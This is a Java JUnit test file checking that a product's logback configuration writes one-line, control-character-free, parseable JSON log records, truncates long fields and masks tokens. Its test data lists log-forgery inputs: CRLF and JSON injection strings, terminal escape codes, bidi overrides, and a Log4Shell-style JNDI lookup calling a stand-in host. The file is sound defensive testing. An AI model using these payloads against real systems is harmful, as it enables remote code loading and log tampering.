package dev.signalbox.logs;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.signalbox.testkit.HostileStrings;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The product's own logging configuration, not the tests'. */
class LogLinesTest {

  private static final ObjectMapper STRICT =
      new ObjectMapper().enable(JsonParser.Feature.STRICT_DUPLICATE_DETECTION);

  private static final List<String> FORGERIES = List.of(
      "x\r\n{\"level\":\"ERROR\"}",
      "x\ny",
      "x\ry",
      "x\u0085y",
      "x\u2028y\u2029z",
      "x\u001b[31my",
      "x\u001b[2Jy",
      "x\u0000\u0007\u0008y",
      "x\u009b31my",
      "x\u202ey",
      "x\",\"level\":\"error\"}\n{\"time\":\"",
      "x\\",
      "x\\\"\\n",
      "x\ud800y",
      "\ufeffx",
      "{} %d ${jndi:ldap://evil.test/a}");

  private final LoggerContext context = new LoggerContext();

  @AfterEach
  void stop() {
    context.stop();
    OneLine.asJson(false);
  }

  static Stream<String> hostile() {
    return Stream.concat(FORGERIES.stream(), HostileStrings.ALL.stream());
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void one_record_is_one_line_without_control_characters(String text) throws Exception {
    String logged = logged("test", text, new IllegalStateException(text, new Exception(text)));

    assertThat(logged).endsWith("\n").matches("[^\\p{Cc}\\u2028\\u2029\\u202e]+\n");
    assertThat(logged).contains("WARN").contains("IllegalStateException").contains(" | ");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void in_json_too_and_what_was_said_can_be_read_again(String text) throws Exception {
    OneLine.asJson(true);
    String before = Thread.currentThread().getName();
    Thread.currentThread().setName("on " + text);
    String logged;
    try {
      logged = logged("of " + text.replace('.', ' '), text, new IllegalStateException(text));
    } finally {
      Thread.currentThread().setName(before);
    }

    assertThat(logged).endsWith("}\n").matches("[^\\p{Cc}\\u2028\\u2029\\u202e]+\n");
    JsonNode record = STRICT.readTree(logged);
    assertThat(record.size()).isEqualTo(6);
    assertThat(record.path("level").asText()).isEqualTo("warn");
    assertThat(record.path("message").asText()).isEqualTo("said " + text);
    assertThat(record.path("thread").asText()).isEqualTo("on " + text);
    assertThat(record.path("logger").asText()).isEqualTo("of " + text.replace('.', ' '));
    assertThat(record.path("error").asText())
        .startsWith("java.lang.IllegalStateException: " + text.stripTrailing().substring(0, 1));
    assertThat(record.path("time").asText()).matches("\\d{4}-\\d\\d-\\d\\dT[\\d:.]+Z");
  }

  @Test
  void times_are_utc() throws Exception {
    assertThat(logged("test", "x", null))
        .matches("(?s)\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:[\\d.]+Z .*");
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void a_long_field_is_cut_after_two_thousand_bytes(boolean json) throws Exception {
    OneLine.asJson(json);
    assertThat(logged("test", "x".repeat(10_000), null).length()).isBetween(2_000, 2_200);
    String wide = logged("test", "\ud83d\ude80".repeat(10_000), new Exception("y".repeat(9_000)));
    assertThat(wide.getBytes(StandardCharsets.UTF_8).length).isBetween(4_000, 4_400);
    assertThat(wide).doesNotContain("?").doesNotContain("\\ud83d");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "sbx_c4n4ry",
        "whsec_c4n4ry==",
        "xoxb-12-c4n4ry",
        "xoxe-c4n4ry",
        "xapp-1-c4n4ry",
        "Authorization: Bearer c4n4ry",
        "Authorization: Basic c4n4ry",
        "authorization=c4n4ry",
        "{\"Authorization\":\"Bot c4n4ry\"}",
        "{Authorization=[c4n4ry]}",
        "Bot c4n4ry",
        "GET /open?key=c4n4ry",
        "wss://x.test/link?ticket=c4n4ry&app_id=1",
        "MTIzNDU2Nzg5MDEyMzQ1Njc4.Gabcde.c4n4ryc4n4ryc4n4ryc4n4ryc4n4ryc4n4ry"
      })
  void secrets_are_blanked_in_either_form_and_every_place(String text) throws Exception {
    for (boolean json : List.of(false, true)) {
      OneLine.asJson(json);
      assertThat(logged(text, text, new Exception(text, new Exception(text))))
          .doesNotContain("c4n4ry")
          .contains("***");
      assertThat(logged("test", "x".repeat(1_990) + " " + text, null)).doesNotContain("c4n4ry");
    }
  }

  private String logged(String logger, String text, Throwable cause) throws Exception {
    var out = new ByteArrayOutputStream();
    PrintStream before = System.err;
    System.setErr(new PrintStream(out, true, StandardCharsets.UTF_8));
    try {
      context.reset();
      context.setMDCAdapter(new LogbackMDCAdapter());
      var configurator = new JoranConfigurator();
      configurator.setContext(context);
      configurator.doConfigure(LogLinesTest.class.getResource("/logback.xml"));
      context.getLogger(logger).warn("said {}", text, cause);
    } finally {
      System.setErr(before);
    }
    return out.toString(StandardCharsets.UTF_8);
  }
}
